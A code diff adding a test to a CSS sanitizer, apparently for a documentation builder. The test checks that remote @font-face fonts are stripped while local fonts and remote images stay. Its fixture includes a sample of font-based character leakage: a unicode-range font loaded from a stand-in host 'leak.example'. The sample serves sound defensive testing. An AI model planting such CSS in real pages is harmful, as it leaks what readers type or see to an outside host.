@@ -125,6 +125,22 @@ def test_other_at_rules_are_left_out_but_css_ones_are_kept() -> None:
     assert len(dropped) == 2  # @namespace, @tailwind: @charset goes without a word
 
 
+def test_fonts_from_another_site_are_left_out_but_images_from_one_are_kept() -> None:
+    """A remote font split by unicode-range tells its host which characters a page shows (a
+    reader's name, a typed key); fonts come from the docs folder, as docs.json's `fonts`."""
+    css, dropped = _clean(
+        "@font-face { font-family: L; src: url(https://leak.example/a.woff2);"
+        " unicode-range: U+61 }\n"
+        "@font-face { font-family: M; src: local(M), url('//cdn.example/m.woff2') }\n"
+        "@font-face { font-family: N; src: url(fonts/n.woff2) format('woff2') }\n"
+        "@media screen { @font-face { font-family: O; src: url(HTTPS://leak.example/o) } }\n"
+        ".hero { background: url(https://cdn.example/hero.png) }"
+    )
+    assert [url for url in _urls(css) if "leak" in url or "cdn.example/m" in url] == []
+    assert "url(../fonts/n.woff2)" in css and "url(https://cdn.example/hero.png)" in css
+    assert len(dropped) == 3
+
+
 def test_what_does_not_parse_is_left_out_where_it_is_and_the_rest_kept() -> None:
     result = clean(b'.a { color: red }\n.b { content: "open\n}\n.c { top: 0 }\n}', "x.css", "")
     assert ".a { color: red; }" in result.css and ".c { top: 0; }" in result.css
